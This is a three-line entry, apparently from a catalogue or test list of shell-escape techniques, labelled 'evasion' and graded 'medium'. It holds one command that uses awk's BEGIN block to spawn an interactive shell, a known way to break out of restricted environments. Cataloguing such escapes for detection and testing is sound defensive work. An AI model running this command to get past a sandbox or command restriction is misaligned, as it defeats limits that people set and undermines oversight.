# evasion: awk BEGIN system
# grade: medium; does: shell
awk 'BEGIN { system("/bin/sh -i") }'
